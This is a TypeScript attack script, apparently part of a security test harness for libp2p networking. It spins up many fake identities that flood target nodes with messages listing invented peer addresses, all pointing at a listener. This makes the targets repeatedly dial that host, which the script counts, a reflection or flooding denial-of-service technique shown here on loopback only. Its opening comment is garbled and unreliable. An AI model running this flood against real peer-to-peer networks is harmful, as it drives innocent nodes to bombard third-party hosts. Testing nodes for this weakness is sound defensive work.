/** Identities that tell a node of members at a host that is none, ever others. */
import { once } from 'node:events'
import { createServer } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { generateKeyPair } from '@libp2p/crypto/keys'
import { peerIdFromPrivateKey } from '@libp2p/peer-id'
import { attackArgs } from '../support/attack-args.ts'
import { Attacker } from '../support/attacker.ts'
import { envelope, members, MESSAGE, wrapper } from '../support/protocols.ts'
import { push } from '../support/push.ts'
import { report } from '../support/report.ts'
import type { AddressInfo } from 'node:net'

const TARGETS_OF_A_MESSAGE = 16
const PAUSE_MS = 400

const { targets, identities } = attackArgs()
let seqno = BigInt(Date.now()) * 1_000n
let dials = 0
const begin = Date.now()

const victim = createServer((socket) => {
  report({ event: 'dialled', count: ++dials, ms: Date.now() - begin })
  socket.on('error', () => {})
  setTimeout(() => socket.destroy(), 50)
})

victim.listen(0, '127.0.0.1')
await once(victim, 'listening')

const { port } = victim.address() as AddressInfo

for (let i = 0; i < Number(identities); i++) {
  const attacker = await Attacker.create()

  for (const target of targets) {
    void attacker.insist(target, async () => {
      await attacker.link(target, { direct: false })
      const stream = await attacker.open(target, MESSAGE)

      attacker.offend(target)

      for (;;) {
        const addrs = await Promise.all(Array.from({ length: TARGETS_OF_A_MESSAGE }, madeUp))

        await push(
          stream,
          envelope({
            wrapper: wrapper(attacker.peerId, members.connectTo(addrs.join(' '))),
            seqno: seqno++
          })
        )
        await delay(PAUSE_MS)
      }
    })
  }
}

async function madeUp(): Promise<string> {
  return `/ip4/127.0.0.1/tcp/${port}/p2p/${peerIdFromPrivateKey(await generateKeyPair('Ed25519'))}`
}
